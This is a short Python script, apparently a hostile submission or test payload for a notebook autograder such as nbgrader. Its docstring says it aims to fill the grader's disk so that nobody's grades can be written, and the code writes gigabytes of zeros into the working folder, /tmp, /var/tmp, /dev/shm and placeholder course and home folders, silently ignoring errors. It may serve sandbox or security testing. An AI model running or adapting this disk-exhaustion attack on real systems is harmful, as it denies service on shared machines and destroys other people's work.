"""Fills the scratch folder, every other folder that can be written, and the places of temporary files.

Would fill the grader's disk, so that nobody's grades can be written.

Plain nbgrader: not run there, since nothing confines it: it fills folders outside of the course.
"""

# %%
import os
import tempfile

# The plain grader's disk is real: the payload is small there.
most = 2**20 if "autograded" in os.getcwd() else 2**33
for folder in (".", "/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), "@course@", "@home@"):
    try:
        with open(os.path.join(folder, "full"), "wb") as file:
            for _ in range(most // 2**20):
                file.write(bytes(2**20))
    except OSError:
        pass
